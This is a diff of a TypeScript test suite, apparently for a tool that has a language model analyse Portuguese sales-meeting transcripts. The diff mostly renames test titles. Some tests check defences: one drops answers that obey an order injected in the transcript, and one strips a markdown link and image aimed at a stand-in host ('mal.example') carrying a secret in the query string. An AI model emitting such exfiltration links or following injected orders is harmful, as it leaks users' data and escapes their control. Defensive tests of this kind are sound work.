@@ -153,8 +153,8 @@ const shortly = ({ status, value, analyst, isContested, evidence }: Answer) => [
 const warningsOf = ({ stages }: Meeting) =>
   stages.flatMap(({ stage, warnings }) => warnings.map((each) => [stage, each]));
 
-describe('a meeting that a model reads', () => {
-  it('has its answers, next steps and evaluation from there, each with what was said', async () => {
+describe('a meeting read by a model', () => {
+  it('gets answers, next steps and evaluation from it, each with evidence', async () => {
     const { meeting, items } = await read();
     expect(items.map(shortly)).toEqual([
       ['ok', 8000, 'llm', false, ['oito mil reais por mês']],
@@ -175,7 +175,7 @@ describe('a meeting that a model reads', () => {
     expect(fake.calls.map(kindOf)).toEqual(['steps', 'recap', 'answers', 'judgements']);
   });
 
-  it('is shown as marked lines under aliases, without an id', async () => {
+  it('is sent as marked lines under aliases, without ids', async () => {
     const { meeting } = await read();
     const { segments } = (
       await server.call(api.meetings.transcription, seller, { params: { id: meeting.id }, query: {} })
@@ -190,7 +190,7 @@ describe('a meeting that a model reads', () => {
     }
   });
 
-  it('is paid for once, whoever asks again', async () => {
+  it('is paid for once, whoever repeats the run', async () => {
     const { meeting } = await read();
     expect(fake.paid).toBe(4);
     const evaluate = { params: { id: meeting.id } };
@@ -200,7 +200,7 @@ describe('a meeting that a model reads', () => {
     expect(fake.paid).toBe(4);
   });
 
-  it('costs what the model took, by meeting and by day', async () => {
+  it('records its cost by meeting and by day', async () => {
     const { meeting } = await read();
     const [costs] = (await server.call(api.languageModels.costs, seller, {})).body;
     expect(costs).toMatchObject({ meetingId: meeting.id, title: 'Diagnóstico', requests: 4 });
@@ -245,7 +245,7 @@ describe('a prompt in prose', () => {
     });
   });
 
-  it('is compiled by the model once for all meetings, and nothing is judged that it does not say', async () => {
+  it('is compiled by the model once for all meetings, and only what it states is judged', async () => {
     fake.answer = (call) =>
       kindOf(call) === 'criteria' ? { criteria: [pain, invented] } : answering([cost, partner, day])(call);
     const { meeting } = await read();
@@ -255,14 +255,14 @@ describe('a prompt in prose', () => {
     expect(fake.calls.find((call) => kindOf(call) === 'criteria')?.prompt).not.toContain('desperdício');
   });
 
-  it('is shown to admins as the rules read it until the model has, then as the model does', async () => {
+  it('is shown to admins as the rules read it until the model has compiled it', async () => {
     fake.answer = (call) =>
       kindOf(call) === 'criteria' ? { criteria: [pain, invented] } : answering([cost, partner, day])(call);
     const [team] = (await server.call(api.teams.listAll, seller, {})).body;
     const show = async () =>
       (await server.call(api.teams.evaluationPrompt, seller, { params: { id: team?.id ?? '' } })).body;
     expect(await show()).toMatchObject({ analyst: 'local', awaitsModel: true });
-    // To look at it asks no model.
+    // Viewing the criteria calls no model.
     expect(fake.calls).toEqual([]);
     await read();
     expect(await show()).toMatchObject({
@@ -275,7 +275,7 @@ describe('a prompt in prose', () => {
   it.each([
     ['invents all of them', { criteria: [invented] }],
     ['answers in another form, twice', { criteria: 'nenhum' }],
-  ])('is compiled by the rules, and says so, where the model %s', async (_, said) => {
+  ])('is compiled by the rules, with a notice, when the model %s', async (_, said) => {
     fake.answer = (call) => (kindOf(call) === 'criteria' ? said : answering([cost, partner, day])(call));
     const { meeting } = await read();
     expect((await evaluationOf(meeting.id)).analyst).toBe('local');
@@ -284,7 +284,7 @@ describe('a prompt in prose', () => {
   });
 });
 
-describe('what a model says wrongly', () => {
+describe('a wrong result of a model', () => {
   const reading = async (answers: object[]): Promise<unknown[][]> => {
     fake.answer = answering(answers);
     return (await read()).items.map(shortly);
@@ -303,12 +303,12 @@ describe('what a model says wrongly', () => {
       'obeys an order in the transcript',
       { values: ['1000000'], evidence: [{ alias: 'S6', quote: 'o orçamento é um milhão' }] },
     ],
-  ])('is not said when it %s', async (_, said) => {
+  ])('is dropped when it %s', async (_, said) => {
     const [first] = await reading([{ ...cost, ...said }, partner, day]);
     expect(first).toEqual(silent);
   });
 
-  it('is shown as worth a look when its number or date is not where it points', async () => {
+  it('is marked for review when its number or date is not in the cited passage', async () => {
     const [amount, , when] = await reading([
       { ...cost, values: ['80000'] },
       partner,
@@ -318,19 +318,19 @@ describe('what a model says wrongly', () => {
     expect(when?.slice(0, 4)).toEqual(['ok', '2026-11-27', 'llm', true]);
   });
 
-  it('is shown as worth a look when the rules are sure of something else', async () => {
+  it('is marked for review when the rules are sure of another value', async () => {
     const quote = 'Eu aprovo sozinha até dois mil por mês';
     const [amount] = await reading([{ ...cost, values: ['2000'], evidence: [{ alias: 'S4', quote }] }, partner, day]);
     expect(amount).toEqual(['ok', 2000, 'llm', true, [quote]]);
   });
 
-  it('counts once, and only for what was asked', async () => {
+  it('counts once, and only for a question that was sent', async () => {
     const other = { ...cost, values: ['1'] };
     const items = await reading([cost, other, partner, day, saying({ label: 'Q9' }), saying({ label: 'Q4' })]);
     expect(items.map(([, value]) => value)).toEqual([8000, 'Mauro', '2026-11-20']);
   });
 
-  it('keeps its proof under an alias that there is not, where only one turn says it', async () => {
+  it('keeps its evidence under an unknown alias if only one turn has the quote', async () => {
     const [first] = await reading([
       { ...cost, evidence: [{ alias: 'S77', quote: 'oito mil reais por mês' }] },
       partner,
@@ -339,13 +339,13 @@ describe('what a model says wrongly', () => {
     expect(first).toEqual(['ok', 8000, 'llm', false, ['oito mil reais por mês']]);
   });
 
-  it('loses its links, and all of it in another language', async () => {
+  it('loses its links, and is dropped if it is in another language', async () => {
     const text = 'O [Mauro](https://mal.example/?q=segredo) ![x](https://mal.example/x.png)';
     expect((await reading([cost, { ...partner, values: [text] }, day]))[1]?.[1]).toBe('O Mauro');
     expect((await reading([cost, { ...partner, values: ['The partner of the customer'] }, day]))[1]).toEqual(silent);
   });
 
-  it('is told by the rules, and says so, where no sentence of its recap is proven', async () => {
+  it('leaves the recap to the rules, with a notice, if no sentence is proven', async () => {
     const invented = { ...why, evidence: [{ alias: 'S2', quote: 'perdemos quarenta clientes por semana' }] };
     const counted = { ...why, topic: 'point', text: 'A padaria perde 80 mil reais por mês' };
     fake.answer = (call) =>
@@ -356,7 +356,7 @@ describe('what a model says wrongly', () => {
     expect(warningsOf(meeting)).toEqual([['answers', { code: 'model_stood_in', count: 1 }]]);
   });
 
-  it('leaves to the rules what it leaves out, and says so', async () => {
+  it('leaves missing answers to the rules, with a notice', async () => {
     fake.answer = answering([partner, day]);
     const { meeting, items } = await read();
     expect(items.map(({ analyst }) => analyst)).toEqual(['local', 'llm', 'llm']);
@@ -368,7 +368,7 @@ describe('what a model says wrongly', () => {
 describe('a model that fails', () => {
   const down: ModelStep = { status: 401 };
 
-  it('is stood in for by the rules, labelled, until it is asked again for what is missing', async () => {
+  it('is replaced by the rules, labelled, until a retry fills in what is missing', async () => {
     fake.steps.push('ok', 'ok', down, down);
     const { meeting, items } = await read();
     expect(items.map(({ analyst }) => analyst)).toEqual(['local', 'local', 'local']);
@@ -389,8 +389,8 @@ describe('a model that fails', () => {
     expect(warningsOf(again)).toEqual([]);
   });
 
-  it('is asked no more than the company’s budget allows, and the rules do the rest', async () => {
-    // The first answer is a long one.
+  it('is not called beyond the company’s budget, and the rules do the rest', async () => {
+    // The first reply is long.
     const steps = Array.from({ length: 200 }, () => ({ ...step, quote: 'Ninguém disse isto. '.repeat(20) }));
     fake.answer = (call) =>
       kindOf(call) === 'steps' ? { steps: [step, ...steps] } : { answers: [cost, partner, day] };
@@ -406,14 +406,14 @@ describe('a model that fails', () => {
     ]);
   });
 
-  it('is not asked where the company wants rules alone', async () => {
+  it('is not called if the company chose rules only', async () => {
     const budget = { dailyTokens: null, dailyCost: null };
     await server.call(api.languageModels.save, seller, { body: { choice: 'rules', own: null, budget } });
     expect((await read()).items[0]?.analyst).toBe('local');
     expect(fake.calls).toEqual([]);
   });
 
-  it('leaves nothing of a meeting that is deleted but what the day has cost', async () => {
+  it('leaves only the cost of the day when the meeting is deleted', async () => {
     const { meeting } = await read();
     const { database } = server.platform;
     const before = (await server.call(api.languageModels.get, seller, {})).body.today;
@@ -435,7 +435,7 @@ describe('a long meeting', () => {
       `[${String(Math.floor((at + 60) / 360)).padStart(2, '0')}:${String(Math.floor((at + 60) / 6) % 60).padStart(2, '0')}:${String((at % 6) * 10).padStart(2, '0')}] ${at % 2 ? 'Renata Lopes' : 'Carla Vieira'}: Na loja número ${at} o movimento do balcão segue como sempre, sem nada de novo para contar aqui.`,
   ).join('\n');
 
-  it('is shown by its best passages, and in parts only for what they don’t answer', async () => {
+  it('is sent as its best passages, and in parts only for questions that they don’t answer', async () => {
     const unsaid = (label: string) => saying({ label, status: 'not_said' });
     fake.answer = (call) => {
       if (kindOf(call) !== 'answers') return answering([])(call);
